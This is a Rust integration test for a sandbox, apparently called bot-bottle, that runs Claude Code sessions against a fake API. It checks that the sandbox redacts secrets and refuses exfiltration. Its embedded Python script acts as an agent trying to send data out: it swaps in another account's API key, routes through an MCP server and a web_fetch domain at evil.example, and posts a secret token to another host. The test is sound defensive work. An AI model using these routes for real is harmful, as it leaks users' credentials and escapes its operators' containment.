//! Issue 18 on the engine, with the real Claude Code CLI (`#[ignore]`d, run by tests/run.sh
//! with `--ignored`): the model lane. One bottle runs five `claude -p` sessions whose model
//! (the fake API, scripted) makes one tool call each that brings into the conversation
//! `env` output, a 148 KB PNG read with `Read`, AWS's documented example keys, a
//! `.env.example` with a Stripe test key, and a PEM test key; every session completes, the
//! model API received placeholders instead of those values and the image bytes unchanged,
//! and the exit report counts the redactions by class. Then, in the same bottle, the model
//! lane's exfiltration attempts are refused with a reason the agent reads, what the bottle
//! allows the provider's servers passes and the report names it, and the web lane still
//! refuses a secret sent to another host. One bottle for all: a launch is the slow
//! part.

use crate::support::engine::{self, Bottle, Internet, leftovers, online};
use crate::support::fake_api;
use serde_json::{Value, json};
use std::path::Path;
use std::time::{Duration, Instant};

const T: Duration = Duration::from_secs(600);

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/model_lane")
            .join(name),
    )
    .unwrap()
}

/// The sessions: four where the model runs `sh step.sh` (the script writes the step), then
/// (after the test has switched the fake API to `Read`) the screenshot; then the attempts.
const SCRIPT: &str = r#"
cd /home/agent/work
for step in env aws dotenv pem; do
  case $step in
    env) echo 'env | sort' ;;
    aws) echo 'cat aws-credentials.txt' ;;
    dotenv) echo 'cat .env.example' ;;
    pem) echo 'cat test-rsa-key.pem' ;;
  esac > /tmp/step.sh
  claude -p "session $step: run the check" --dangerously-skip-permissions > /tmp/out-$step 2>&1
  echo "EXIT $step $?"
  sed 's/^/  | /' /tmp/out-$step | tail -5
done
touch /tmp/.bb-phase1
until [ -e /tmp/.bb-phase2 ]; do sleep 0.2; done
claude -p "session png: look at the screenshot" --dangerously-skip-permissions > /tmp/out-png 2>&1
echo "EXIT png $?"
sed 's/^/  | /' /tmp/out-png | tail -5
exec python3 /home/agent/work/attempts.py
"#;

/// What an agent bent on sending data elsewhere through the model API would try.
const ATTEMPTS: &str = r#"
import json, os, requests
S = requests.Session()
api = 'https://api.anthropic.com/v1/messages'
key = os.environ['ANTHROPIC_API_KEY']
secret = os.environ['LEAK_TOKEN']
H = {'x-api-key': key, 'anthropic-version': '2023-06-01', 'content-type': 'application/json'}
def body(**extra):
    b = {'model': 'claude-sonnet-4-5', 'max_tokens': 64,
         'messages': [{'role': 'user', 'content': 'hi'}]}
    b.update(extra)
    return json.dumps(b)
other = 'sk-ant-api03-' + 'Zq8Lm2Np4Rt6Vw8Yb1Cd3Ef5Gh0Jk2Lm4Np6Qr8St0Uv2Wx4Yz6Ab8Cd0Ef2Gh4Ij6Kl8Mn0Op2Qr4St6Uv8Wx0Yz2Ab4Cd' + 'AA'
tries = {
  'other_key_x_api_key': lambda: S.post(api, headers=dict(H, **{'x-api-key': other}), data=body()),
  'bearer_authorization': lambda: S.post(api, headers=dict({k: v for k, v in H.items() if k != 'x-api-key'},
                                         authorization='Bearer opaque-token-of-another-account-0123456789'), data=body()),
  'mcp_outside': lambda: S.post(api, headers=H, data=body(mcp_servers=[
      {'type': 'url', 'url': 'https://mcp.evil.example/sse', 'name': 'x'}])),
  'web_fetch_no_domains': lambda: S.post(api, headers=H, data=body(tools=[
      {'type': 'web_fetch_20250910', 'name': 'web_fetch'}])),
  'web_fetch_bad_domain': lambda: S.post(api, headers=H, data=body(tools=[
      {'type': 'web_fetch_20250910', 'name': 'web_fetch', 'allowed_domains': ['evil.example']}])),
  'unparseable': lambda: S.post(api, headers=H, data='{"messages": [ '),
}
out = {}
for name, send in tries.items():
    r = send()
    out[name] = {'status': r.status_code, 'by': r.headers.get('X-Bot-Bottle-Block-Reason'), 'body': r.text[:400]}
allowed = {
  'web_fetch_allowlisted': lambda: S.post(api, headers=H, data=body(tools=[
      {'type': 'web_fetch_20250910', 'name': 'web_fetch', 'allowed_domains': ['allowed.test']}])),
  'mcp_declared': lambda: S.post(api, headers=H, data=body(mcp_servers=[
      {'type': 'url', 'url': 'https://mcp.partner.example/sse', 'name': 'partner'}])),
}
for name, send in allowed.items():
    r = send()
    out[name] = {'status': r.status_code, 'body': r.text[:200]}
r = S.post(api, headers=H, data=body(messages=[{'role': 'user', 'content': 'my token is ' + secret + ' ok'}]))
out['forwarded_secret'] = {'status': r.status_code, 'body': r.text[:200]}
r = S.post('https://allowed.test/echo', data='token=' + secret, timeout=30)
out['web_secret'] = {'status': r.status_code, 'body': r.text[:200]}
r = S.get('https://allowed.test/echo', timeout=30)
out['web_plain'] = {'status': r.status_code}
print('ATTEMPTS ' + json.dumps(out), flush=True)
"#;

/// The bodies the fake API received on /v1/messages, in order.
fn message_bodies(net: &Internet) -> Vec<Value> {
    fake_api::requests(net, "/v1/messages")
        .iter()
        .filter(|r| r["method"] == "POST")
        .map(|r| serde_json::from_str(r["body"].as_str().unwrap_or("null")).unwrap_or(Value::Null))
        .collect()
}

/// The bodies of the session whose first user prompt names `step`.
fn session<'a>(bodies: &'a [Value], step: &str) -> Vec<&'a Value> {
    let tag = format!("session {step}:");
    bodies
        .iter()
        .filter(|b| b.to_string().contains(&tag))
        .collect()
}

/// Waits until `path` exists in `agent`'s container.
fn wait_in_agent(agent: &str, path: &str, deadline: Instant) {
    loop {
        let name = engine::containers(agent, "agent");
        let name = name.lines().next().unwrap_or_default();
        if !name.is_empty()
            && std::process::Command::new("docker")
                .args(["exec", name, "test", "-e", path])
                .status()
                .is_ok_and(|s| s.success())
        {
            return;
        }
        assert!(
            Instant::now() < deadline,
            "{path} never appeared in {agent}"
        );
        std::thread::sleep(Duration::from_millis(300));
    }
}

fn docker_ok(args: &[&str]) {
    let out = std::process::Command::new("docker")
        .args(args)
        .output()
        .unwrap();
    assert!(out.status.success(), "docker {args:?}: {out:?}");
}

#[test]
#[ignore = "needs a Docker engine; tests/run.sh runs it when one answers"]
fn claude_code_sessions_survive_what_they_read_and_the_model_lane_refuses_exfiltration() {
    let e = engine::engine();
    let agent = "t-model-lane";
    let key = engine::api_key();
    let secret = engine::secret_value();
    let command = online(&["sh", "-c", SCRIPT]);
    let t = e
        .claude_user(&fake_api::manifest(
            agent,
            &command,
            r#", "model": { "server_hosts": ["mcp.partner.example"] }"#,
        ))
        .env("ANTHROPIC_API_KEY", &key)
        .env("BOT_BOTTLE_TEST_SECRET", &secret);
    let work = t.work();
    std::fs::create_dir_all(&work).unwrap();
    for (file, name) in [
        ("aws-credentials.txt", "aws-credentials.txt"),
        ("env.example", ".env.example"),
        ("test-rsa-key.pem", "test-rsa-key.pem"),
        ("screenshot.png", "screenshot.png"),
    ] {
        std::fs::write(work.join(name), fixture(file)).unwrap();
    }
    std::fs::write(work.join("attempts.py"), ATTEMPTS).unwrap();
    let report = t.dir.path().join("report.json");
    let report_arg = report.display().to_string();
    let bottle = Bottle::spawn(&t, &["run", "--cwd", "--report", &report_arg, agent]);
    let config = json!({"api": {
        "keys": [key], "script": "tool_use", "tool_name": "Bash",
        "tool_command": "sh /tmp/step.sh", "tool_description": "Run the step"
    }})
    .to_string();
    let net = Internet::attach_with(&e, agent, Some(&config));
    let deadline = Instant::now() + T;
    wait_in_agent(agent, "/tmp/.bb-phase1", deadline);
    let read = json!({"api": {"tool_name": "Read",
        "tool_input": {"file_path": "/home/agent/work/screenshot.png"}}})
    .to_string();
    let origin = net.origin.clone();
    let mut post = std::process::Command::new("docker")
        .args([
            "exec",
            "-i",
            &origin,
            "curl",
            "-sSf",
            "-X",
            "POST",
            "--data-binary",
            "@-",
            "http://127.0.0.1:80/__config",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    std::io::Write::write_all(&mut post.stdin.take().unwrap(), read.as_bytes()).unwrap();
    assert!(
        post.wait().unwrap().success(),
        "switching the fake API to Read"
    );
    let name = engine::containers(agent, "agent");
    docker_ok(&[
        "exec",
        name.lines().next().unwrap(),
        "touch",
        "/tmp/.bb-phase2",
    ]);
    let (code, out, err) = bottle.finish(T);
    assert_eq!(code, 0, "stdout:\n{out}\nstderr:\n{err}");

    // Every session completed, with the model's final answer.
    for step in ["env", "aws", "dotenv", "pem", "png"] {
        assert!(
            out.contains(&format!("EXIT {step} 0")),
            "session {step} did not complete:\n{out}\n{err}"
        );
    }
    let bodies = message_bodies(&net);
    // The screenshot's base64 holds AWS's example key id by design (a real screenshot did,
    // issue 18): image data is no text and is left alone; the text is checked without it.
    let text: Vec<&Value> = bodies
        .iter()
        .filter(|b| !b.to_string().contains("session png:"))
        .collect();
    let all = serde_json::to_string(&text).unwrap();
    check_placeholders(&bodies, &all, &secret, &key);
    check_image(&bodies);
    check_attempts(&out, &all, &secret);
    check_report(&report);
    assert_eq!(leftovers(agent), Vec::<String>::new());
}

/// The provider got placeholders, never the values, in every session, on every turn.
fn check_placeholders(bodies: &[Value], all: &str, secret: &str, key: &str) {
    for (step, gone, placeholder) in [
        // The forwarded secret's line: replaced as an env-var secret (or as the bottle's own).
        ("env", secret, "LEAK_TOKEN=<redacted:"),
        ("aws", "AKIAIOSFODNN7EXAMPLE", "<redacted:aws-access-id>"),
        (
            "aws",
            "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            "<redacted:aws-secret-key>",
        ),
        (
            "dotenv",
            "sk_test_4eC39HqLyjWDarjtT1zdp7dc",
            "<redacted:stripe-key>",
        ),
        ("pem", "BEGIN RSA PRIVATE KEY", "<redacted:private-key>"),
    ] {
        assert!(!all.contains(gone), "{gone} reached the model API");
        let turns = session(bodies, step);
        let with_result: Vec<&&Value> = turns
            .iter()
            .filter(|b| b.to_string().contains("tool_result"))
            .collect();
        assert!(
            !with_result.is_empty(),
            "session {step}: no turn carried the tool's result"
        );
        for b in with_result {
            let text = b.to_string();
            let at = text.find("tool_result").unwrap_or(0);
            assert!(
                text.contains(placeholder),
                "session {step}: a turn without {placeholder}: …{}",
                text.get(at..(at + 3000).min(text.len()))
                    .unwrap_or_default()
            );
        }
    }
    // The agent's own placeholder lines are not secrets, and pass as they are.
    let env = session(bodies, "env");
    assert!(
        env.iter().any(|b| b
            .to_string()
            .contains("ANTHROPIC_API_KEY=bot-bottle-placeholder-ANTHROPIC_API_KEY")),
        "the env output's placeholder line did not reach the model API"
    );
    assert!(!all.contains(key), "the real key is in a body");
}

/// The screenshot reached the model API byte for byte, as Read sent it.
fn check_image(bodies: &[Value]) {
    let path =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/model_lane/screenshot.png");
    assert!(std::fs::metadata(&path).unwrap().len() >= 100 * 1024);
    let b64 = std::process::Command::new("base64")
        .arg("-w0")
        .arg(&path)
        .output()
        .unwrap()
        .stdout;
    let b64 = String::from_utf8(b64).unwrap();
    assert!(b64.contains("AKIAIOSFODNN7EXAMPLE"), "the fixture's needle");
    let turns = session(bodies, "png");
    let found = turns.iter().any(|b| b.to_string().contains(&b64));
    assert!(
        found,
        "the screenshot's bytes did not reach the model API unchanged ({} turns)",
        turns.len()
    );
}

/// Each attempt refused with a reason the agent reads; the secret redacted on the model
/// lane and refused on the web lane.
fn check_attempts(out: &str, all: &str, secret: &str) {
    let line = out
        .lines()
        .find_map(|l| l.strip_prefix("ATTEMPTS "))
        .unwrap_or_else(|| panic!("no ATTEMPTS line:\n{out}"));
    let a: Value = serde_json::from_str(line).unwrap();
    for (name, status, code) in [
        ("other_key_x_api_key", 403, "model_identity"),
        ("bearer_authorization", 403, "model_identity"),
        ("mcp_outside", 403, "model_server_egress"),
        ("web_fetch_no_domains", 403, "model_server_egress"),
        ("web_fetch_bad_domain", 403, "model_server_egress"),
        ("unparseable", 400, "model_unparseable"),
    ] {
        assert_eq!(a[name]["status"], status, "{name}: {a:#}");
        assert_eq!(a[name]["by"], code, "{name}: {a:#}");
        let body = a[name]["body"].as_str().unwrap();
        assert!(
            body.contains("blocked: bot-bottle: "),
            "{name}: the agent reads no reason: {body}"
        );
    }
    // What the bottle allows the provider's servers: a web_fetch inside the allowlist, an MCP
    // server the manifest declares (model.server_hosts).
    assert_eq!(a["web_fetch_allowlisted"]["status"], 200, "{a:#}");
    assert_eq!(a["mcp_declared"]["status"], 200, "{a:#}");
    assert_eq!(a["forwarded_secret"]["status"], 200, "{a:#}");
    assert!(all.contains("my token is <redacted:secret:LEAK_TOKEN> ok"));
    assert!(!all.contains(secret));
    assert_eq!(a["web_secret"]["status"], 403, "{a:#}");
    assert!(
        a["web_secret"]["body"]
            .as_str()
            .unwrap()
            .starts_with("blocked: "),
        "{a:#}"
    );
    assert_eq!(a["web_plain"]["status"], 200, "{a:#}");
}

/// The exit report counts the redactions by class on the model lane, the refusals, and
/// leaves the web lane's redactions empty.
fn check_report(path: &Path) {
    let report: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let errors = crate::support::json_schema::check(&crate::report::schema(), &report);
    assert!(errors.is_empty(), "{errors:#?}");
    let model = &report["lanes"]["model"];
    for class in [
        "secret:LEAK_TOKEN",
        "env-secret",
        "aws-access-id",
        "aws-secret-key",
        "stripe-key",
        "private-key",
    ] {
        assert!(
            model["redactions"][class].as_u64().unwrap_or(0) >= 1,
            "{class} not counted: {model:#}"
        );
    }
    assert!(model["refused"].as_u64().unwrap() >= 6, "{model:#}");
    // The exit report says which server egress was used.
    assert_eq!(
        model["server_egress"],
        json!({"web_fetch:allowed.test": 1, "mcp:mcp.partner.example": 1}),
        "{model:#}"
    );
    assert_eq!(report["lanes"]["web"]["redactions"], json!({}));
    let web = &report["lanes"]["web"];
    assert!(
        web["blocked"].as_u64().unwrap() + web["refused"].as_u64().unwrap() >= 1,
        "the secret sent to a web host was not stopped: {web:#}"
    );
    eprintln!("the exit report's lanes: {:#}", report["lanes"]);
}
